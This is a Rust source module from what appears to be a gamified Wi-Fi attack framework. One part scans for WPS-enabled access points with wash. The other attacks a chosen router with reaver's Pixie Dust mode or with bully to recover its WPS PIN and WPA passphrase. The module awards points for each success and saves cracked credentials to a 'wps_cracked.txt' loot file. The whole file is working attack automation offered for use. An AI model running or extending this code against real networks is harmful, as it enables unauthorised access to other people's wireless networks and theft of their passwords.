//! WPS discovery with wash, and PIN attacks with reaver or bully.

use std::time::{Duration, Instant};

use serde_json::{json, Value};

use pwrlvl_core::{EventLevel, LineEvent, ProcessSpec};
use pwrlvl_protocols::{OutputParser, WashParser, WpsLineParser};

use crate::context::OperationContext;
use crate::error::OperationError;
use crate::operation::Operation;
use crate::params::Params;
use crate::settings::EngineSettings;

pub struct WpsScan;

impl Operation for WpsScan {
    fn name(&self) -> &'static str {
        "wps-scan"
    }

    fn prepare(&self, raw: &Params, settings: &EngineSettings) -> Result<Params, OperationError> {
        Ok(Params::new()
            .with("iface", raw.interface_or("iface", &settings.default_iface)?)
            .with("duration", raw.number_or("duration", 30)?))
    }

    fn accepted(&self, params: &Params) -> String {
        format!("WPS scan started on {}", params.text_or("iface", ""))
    }

    fn start_event(&self, params: &Params) -> (EventLevel, String) {
        (
            EventLevel::Info,
            format!(
                "WPS scan on {} for {}s...",
                params.text_or("iface", ""),
                params.text_or("duration", "30")
            ),
        )
    }

    fn error_label(&self) -> &'static str {
        "WPS scan"
    }

    fn run(&self, ctx: &OperationContext, params: &Params) -> Result<(), OperationError> {
        let iface = params.text_or("iface", &ctx.settings().default_iface);
        let duration = Duration::from_secs(params.number_or("duration", 30)?);
        ctx.award(5, "WPS scan");

        let wash = ctx.require(&["wash"])?;
        ctx.set_monitor(&iface, true);
        let handle = ctx.spawn(
            None,
            ProcessSpec::new(wash)
                .args(["-i", iface.as_str()])
                .capture_lines(),
        )?;

        let mut buffer = String::new();
        let deadline = Instant::now() + duration;
        if let Some(lines) = handle.take_lines() {
            while ctx.is_running() {
                let remaining = deadline.saturating_duration_since(Instant::now());
                if remaining.is_zero() {
                    break;
                }
                match lines.next_line(remaining.min(ctx.settings().poll_interval)) {
                    LineEvent::Line(line) => {
                        buffer.push_str(&line);
                        buffer.push('\n');
                    }
                    LineEvent::Idle => {}
                    LineEvent::Closed => break,
                }
            }
        }
        ctx.finish(None);

        let aps = WashParser::new().parse(&buffer);
        ctx.set_result(json!(aps));
        ctx.publish_with(
            EventLevel::Wps,
            format!("Found {} WPS-enabled APs", aps.len()),
            json!({ "aps": aps }),
        );
        if !aps.is_empty() {
            ctx.award(aps.len() as u64 * 5, &format!("{} WPS APs found", aps.len()));
        }
        Ok(())
    }
}

pub struct WpsAttack;

impl Operation for WpsAttack {
    fn name(&self) -> &'static str {
        "wps-attack"
    }

    fn prepare(&self, raw: &Params, settings: &EngineSettings) -> Result<Params, OperationError> {
        Ok(Params::new()
            .with("bssid", raw.required_mac("bssid")?)
            .with("channel", raw.number_or("channel", 1)?)
            .with("iface", raw.interface_or("iface", &settings.default_iface)?))
    }

    fn accepted(&self, params: &Params) -> String {
        format!("WPS attack → {}", params.text_or("bssid", ""))
    }

    fn start_event(&self, params: &Params) -> (EventLevel, String) {
        (
            EventLevel::Wps,
            format!(
                "WPS attack → {} ch{} on {}",
                params.text_or("bssid", ""),
                params.text_or("channel", "1"),
                params.text_or("iface", "")
            ),
        )
    }

    fn error_label(&self) -> &'static str {
        "WPS attack"
    }

    fn run(&self, ctx: &OperationContext, params: &Params) -> Result<(), OperationError> {
        let bssid = params.text_or("bssid", "");
        let channel = params.number_or("channel", 1)?.to_string();
        let iface = params.text_or("iface", &ctx.settings().default_iface);

        ctx.award(10, "WPS attack");
        ctx.set_field("target", bssid.as_str());
        ctx.set_result(json!({ "bssid": bssid, "pin": null, "psk": null }));

        let spec = if let Some(reaver) = ctx.locate(&["reaver"]) {
            ProcessSpec::new(reaver).args([
                "-i",
                iface.as_str(),
                "-b",
                bssid.as_str(),
                "-c",
                channel.as_str(),
                "-vv",
                "-K",
                "1",
            ])
        } else {
            let bully = ctx.require(&["reaver", "bully"])?;
            ProcessSpec::new(bully).args([
                "-b",
                bssid.as_str(),
                "-c",
                channel.as_str(),
                "-v",
                "3",
                iface.as_str(),
            ])
        };
        ctx.set_monitor(&iface, true);
        let handle = ctx.spawn(None, spec.capture_lines())?;

        let parser = WpsLineParser::new();
        let mut pin_found: Option<String> = None;
        if let Some(lines) = handle.take_lines() {
            while ctx.is_running() {
                let line = match lines.next_line(ctx.settings().poll_interval) {
                    LineEvent::Line(line) => line,
                    LineEvent::Idle => continue,
                    LineEvent::Closed => break,
                };
                let line = line.trim();
                if line.is_empty() {
                    continue;
                }
                ctx.publish(EventLevel::Wps, line);

                let finding = parser.parse(line);
                if let Some(pin) = finding.pin {
                    ctx.publish_with(
                        EventLevel::Wps,
                        format!("★ PIN FOUND: {pin} ★"),
                        json!({ "pin": pin }),
                    );
                    ctx.award(100, "WPS PIN cracked");
                    record(ctx, "pin", &pin);
                    pin_found = Some(pin);
                }
                if let Some(psk) = finding.psk {
                    ctx.publish_with(
                        EventLevel::Wps,
                        format!("★ PSK: {psk} ★"),
                        json!({ "psk": psk }),
                    );
                    ctx.award(200, "WPS→PSK recovered");
                    record(ctx, "psk", &psk);
                    let entry = format!(
                        "{bssid}  PIN:{}  PSK:{psk}",
                        pin_found.as_deref().unwrap_or("?")
                    );
                    ctx.loot()
                        .append_line("wps_cracked.txt", &entry)
                        .map_err(|e| OperationError::ProcessFailure(e.to_string()))?;
                }
            }
        }
        ctx.finish(None);
        Ok(())
    }
}

fn record(ctx: &OperationContext, key: &str, value: &str) {
    ctx.update_result(|result| {
        if let Value::Object(map) = result {
            map.insert(key.to_string(), Value::from(value));
        }
    });
}
